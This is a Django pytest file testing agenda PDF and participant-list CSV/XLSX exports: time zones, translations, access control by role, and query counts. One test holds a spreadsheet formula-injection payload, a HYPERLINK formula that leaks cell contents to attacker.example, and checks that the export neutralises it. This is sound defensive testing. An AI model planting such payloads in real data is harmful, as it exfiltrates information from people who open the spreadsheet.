"""Downloads of an activity: agenda PDF (languages, time zones, privacy) and participant lists
(CSV and XLSX: permissions, same rows in both, formula injection)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from pypdf import PdfReader

from citybridge.activities.enums import ActivityKind, ParticipantRole
from citybridge.pairings.enums import PairingStatus
from tests.factories import (
    ActivityFactory,
    AgendaItemFactory,
    CityFactory,
    OrganisationFactory,
    ParticipationFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db


def pdf_text(response) -> str:
    reader = PdfReader(io.BytesIO(response.content))
    return "\n".join(page.extract_text() for page in reader.pages)


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return [row for row in csv.reader(io.StringIO(text))]


def xlsx_rows(response) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [
        ["" if value is None else str(value) for value in values]
        for values in sheet.iter_rows(values_only=True)
    ]


def trimmed(rows: list[list[str]]) -> list[list[str]]:
    """Rows without trailing empty cells (a spreadsheet has no notion of a row's length)."""
    result = []
    for row in rows:
        cells = list(row)
        while cells and cells[-1] == "":
            cells.pop()
        result.append(cells)
    return result


def agenda_url(activity, language="en"):
    return f"/{language}/exports/activities/{activity.pk}/agenda.pdf"


def participants_url(activity, fmt, language="en"):
    return f"/{language}/exports/activities/{activity.pk}/participants.{fmt}"


# --- Agenda PDF ----------------------------------------------------------------------------


def test_japanese_agenda_pdf_has_japanese_text_and_times_in_both_zones(client, pairing):
    activity = ActivityFactory(
        pairing=pairing, title='{"en": "Study visit", "ja": "生駒市代表団のアンコーナ視察"}'
    )
    AgendaItemFactory(
        activity=activity,
        starts_at=datetime(2018, 10, 4, 8, 0, tzinfo=UTC),
        ends_at=datetime(2018, 10, 4, 9, 30, tzinfo=UTC),
        title='{"en": "Welcome at the town hall", "ja": "市役所での歓迎"}',
    )

    response = client.get(agenda_url(activity, "ja"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="agenda-{activity.pk}-ja.pdf"'
    text = pdf_text(response)
    assert "生駒市代表団のアンコーナ視察" in text
    assert "市役所での歓迎" in text
    assert "生駒市" in text  # the partner city's Japanese name
    assert "10:00 CEST · 17:00 JST" in text
    assert "11:30 CEST · 18:30 JST" in text


def test_agenda_pdf_shows_summer_and_winter_time_across_the_dst_change(client, pairing):
    activity = ActivityFactory(
        pairing=pairing,
        starts_at=datetime(2018, 10, 27, 7, 0, tzinfo=UTC),
        ends_at=datetime(2018, 10, 28, 16, 0, tzinfo=UTC),
    )
    # Clocks in Rome go back from 03:00 CEST to 02:00 CET on 28 October 2018; Japan has no DST.
    AgendaItemFactory(activity=activity, starts_at=datetime(2018, 10, 27, 8, 0, tzinfo=UTC))
    AgendaItemFactory(activity=activity, starts_at=datetime(2018, 10, 28, 9, 0, tzinfo=UTC))

    text = pdf_text(client.get(agenda_url(activity)))

    assert "10:00 CEST · 17:00 JST" in text
    assert "10:00 CET · 18:00 JST" in text


def test_agenda_pdf_groups_items_by_day_in_the_host_city(client, pairing):
    activity = ActivityFactory(pairing=pairing)
    # 22:30 UTC on 3 October is already 00:30 on 4 October in Ancona.
    AgendaItemFactory(
        activity=activity,
        starts_at=datetime(2018, 10, 3, 22, 30, tzinfo=UTC),
        title='{"en": "Night walk"}',
    )
    AgendaItemFactory(
        activity=activity,
        starts_at=datetime(2018, 10, 3, 8, 0, tzinfo=UTC),
        title='{"en": "Morning meeting"}',
    )

    text = pdf_text(client.get(agenda_url(activity)))

    assert text.index("Wednesday") < text.index("Morning meeting") < text.index("Thursday")
    assert text.index("Thursday") < text.index("Night walk")
    assert "00:30 CEST · 07:30 JST" in text


def test_agenda_pdf_shows_place_organisations_speakers_language_and_sample_marker(client, pairing):
    activity = ActivityFactory(pairing=pairing, venue='{"en": "Mole Vanvitelliana"}')
    item = AgendaItemFactory(
        activity=activity,
        title='{"en": "Visit to the social services"}',
        place='{"en": "Via Podesti 14"}',
        speakers="Emma Capogrossi",
        language="it",
        is_sample=True,
    )
    item.organisations.add(OrganisationFactory(name='{"en": "Social Policies Department"}'))

    text = pdf_text(client.get(agenda_url(activity)))

    for expected in [
        "Study tour",
        "Ancona",
        "Ikoma",
        "Mole Vanvitelliana",
        "Via Podesti 14",
        "Social Policies Department",
        "Emma Capogrossi",
        "Italian",
        "sample",
    ]:
        assert expected in text


def test_programme_wide_activity_is_shown_in_the_host_city_zone_only(client):
    activity = ActivityFactory(
        pairing=None,
        kind=ActivityKind.EXCHANGE_MEETING,
        host_city=CityFactory(name='{"en": "Brussels"}', time_zone="Europe/Brussels"),
        starts_at=datetime(2019, 11, 26, 8, 0, tzinfo=UTC),
        ends_at=datetime(2019, 11, 27, 16, 0, tzinfo=UTC),
    )
    AgendaItemFactory(activity=activity, starts_at=datetime(2019, 11, 26, 9, 0, tzinfo=UTC))

    text = pdf_text(client.get(agenda_url(activity)))

    assert "10:00 CET" in text
    assert "JST" not in text


def test_agenda_pdf_leaves_out_the_delegation_unless_asked(client, pairing, people):
    activity = ActivityFactory(pairing=pairing)
    ParticipationFactory(activity=activity, person=PersonFactory(name="Valeria Mancinelli"))

    assert "Valeria Mancinelli" not in pdf_text(client.get(agenda_url(activity)))

    client.force_login(people["editor"])
    text = pdf_text(client.get(agenda_url(activity) + "?participants=1"))
    assert "Valeria Mancinelli" in text
    assert "Official" in text


@pytest.mark.parametrize("who", ["viewer", "nobody"])
def test_agenda_pdf_with_delegation_is_refused_to_people_who_cannot_change_the_activity(
    client, pairing, people, who
):
    activity = ActivityFactory(pairing=pairing)
    client.force_login(people[who])
    assert client.get(agenda_url(activity) + "?participants=1").status_code == 403


def test_agenda_pdf_with_delegation_sends_anonymous_visitors_to_log_in(client, pairing):
    activity = ActivityFactory(pairing=pairing)
    response = client.get(agenda_url(activity) + "?participants=1")
    assert response.status_code == 302
    assert response["Location"].startswith("/en/accounts/login/?next=")


def test_agenda_pdf_of_a_proposed_pairing_is_not_found_for_anonymous_visitors(client, pairing):
    pairing.status = PairingStatus.PROPOSED
    pairing.save()
    activity = ActivityFactory(pairing=pairing)
    assert client.get(agenda_url(activity)).status_code == 404


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("coordinator", 200),
        ("pairing_coordinator", 200),
        ("editor", 200),
        ("partner_editor", 200),
        ("viewer", 200),
        ("admin", 200),
        ("other_coordinator", 403),
        ("evaluator", 403),
        ("other_editor", 403),
        ("nobody", 403),
    ],
)
def test_agenda_pdf_of_a_proposed_pairing_per_role(client, pairing, people, who, status):
    pairing.status = PairingStatus.PROPOSED
    pairing.save()
    activity = ActivityFactory(pairing=pairing)
    client.force_login(people[who])
    assert client.get(agenda_url(activity)).status_code == status


def test_agenda_pdf_of_a_missing_activity_is_not_found(client):
    assert client.get("/en/exports/activities/999999/agenda.pdf").status_code == 404


def test_agenda_pdf_queries_do_not_grow_with_the_agenda(client, pairing):
    def queries_for(item_count):
        activity = ActivityFactory(pairing=pairing)
        for _ in range(item_count):
            item = AgendaItemFactory(activity=activity)
            item.organisations.add(OrganisationFactory(), OrganisationFactory())
        with CaptureQueriesContext(connection) as queries:
            assert client.get(agenda_url(activity)).status_code == 200
        return len(queries)

    assert queries_for(1) == queries_for(3)


# --- Participant lists ---------------------------------------------------------------------


@pytest.fixture
def delegation(pairing):
    """A study tour in Ancona with two people of Ancona and one of Ikoma."""
    ancona, ikoma = [m.city for m in pairing.ordered_memberships]
    activity = ActivityFactory(pairing=pairing)
    social = OrganisationFactory(city=ancona, name='{"en": "Social Policies"}')
    town_hall = OrganisationFactory(
        city=ikoma, name='{"en": "Ikoma City Hall", "ja": "生駒市役所"}'
    )
    ParticipationFactory(
        activity=activity,
        person=PersonFactory(name="Anna Rossi", organisation=social, email="anna@example.org"),
        role=ParticipantRole.OFFICIAL,
    )
    ParticipationFactory(
        activity=activity,
        person=PersonFactory(
            name="Valeria Mancinelli", organisation=social, email="valeria@example.org"
        ),
        role=ParticipantRole.HEAD,
    )
    ParticipationFactory(
        activity=activity,
        person=PersonFactory(name="生駒 太郎", organisation=town_hall, email="taro@example.jp"),
        role=ParticipantRole.HEAD,
        arrives_at=datetime(2018, 10, 2, 23, 30, tzinfo=UTC),
        departs_at=datetime(2018, 10, 7, 6, 0, tzinfo=UTC),
    )
    return activity


EXPECTED_ROWS = [
    [
        "Name",
        "Role",
        "Organisation",
        "Delegation",
        "E-mail",
        "Arrival (Europe/Rome)",
        "Departure (Europe/Rome)",
    ],
    [
        "Valeria Mancinelli",
        "Head of delegation",
        "Social Policies",
        "Ancona",
        "valeria@example.org",
        "",
        "",
    ],
    ["Anna Rossi", "Official", "Social Policies", "Ancona", "anna@example.org", "", ""],
    [
        "生駒 太郎",
        "Head of delegation",
        "Ikoma City Hall",
        "Ikoma",
        "taro@example.jp",
        "2018-10-03 01:30",
        "2018-10-07 08:00",
    ],
    [],
    ["Delegation", "Participants"],
    ["Ancona", "2"],
    ["Ikoma", "1"],
    ["Total", "3"],
]


def test_csv_lists_participants_and_counts_by_city(client, people, delegation):
    client.force_login(people["editor"])
    response = client.get(participants_url(delegation, "csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="participants-{delegation.pk}-en.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    assert "no-store" in response["Cache-Control"]
    assert csv_rows(response) == EXPECTED_ROWS


def test_xlsx_has_the_same_rows_as_the_csv(client, people, delegation):
    client.force_login(people["coordinator"])

    csv_response = client.get(participants_url(delegation, "csv"))
    xlsx_response = client.get(participants_url(delegation, "xlsx"))

    assert xlsx_response.status_code == 200
    assert xlsx_response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert trimmed(xlsx_rows(xlsx_response)) == trimmed(csv_rows(csv_response))
    assert trimmed(xlsx_rows(xlsx_response)) == trimmed(EXPECTED_ROWS)


def test_xlsx_has_a_bold_frozen_header_and_sized_columns(client, people, delegation):
    client.force_login(people["editor"])
    sheet = load_workbook(
        io.BytesIO(client.get(participants_url(delegation, "xlsx")).content)
    ).active

    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet.column_dimensions["E"].width >= len("valeria@example.org")


def test_participant_list_is_in_the_language_of_the_address(client, people, delegation):
    client.force_login(people["editor"])
    response = client.get(participants_url(delegation, "csv", language="ja"))

    assert (
        response["Content-Disposition"]
        == f'attachment; filename="participants-{delegation.pk}-ja.csv"'
    )
    taro = next(row for row in csv_rows(response) if row and row[0] == "生駒 太郎")
    assert taro[2:4] == ["生駒市役所", "生駒市"]


def test_formulas_in_names_are_neutralised_in_csv_and_xlsx(client, people, pairing):
    activity = ActivityFactory(pairing=pairing)
    name = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click")'
    ParticipationFactory(activity=activity, person=PersonFactory(name=name, email="@x"))
    client.force_login(people["editor"])

    csv_cells = csv_rows(client.get(participants_url(activity, "csv")))[1]
    sheet = load_workbook(io.BytesIO(client.get(participants_url(activity, "xlsx")).content)).active

    assert csv_cells[0] == "'" + name
    assert csv_cells[4] == "'@x"
    assert sheet["A2"].value == "'" + name
    assert sheet["A2"].data_type == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("coordinator", 200),
        ("pairing_coordinator", 200),
        ("editor", 200),
        ("partner_editor", 200),
        ("admin", 200),
        ("viewer", 403),
        ("evaluator", 403),
        ("other_editor", 403),
        ("other_coordinator", 403),
        ("nobody", 403),
    ],
)
def test_participant_lists_per_role(client, pairing, people, fmt, who, status):
    activity = ActivityFactory(pairing=pairing)
    client.force_login(people[who])
    assert client.get(participants_url(activity, fmt)).status_code == status


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_participant_lists_send_anonymous_visitors_to_log_in(client, pairing, fmt):
    activity = ActivityFactory(pairing=pairing)
    url = participants_url(activity, fmt)
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"/en/accounts/login/?next={url}"
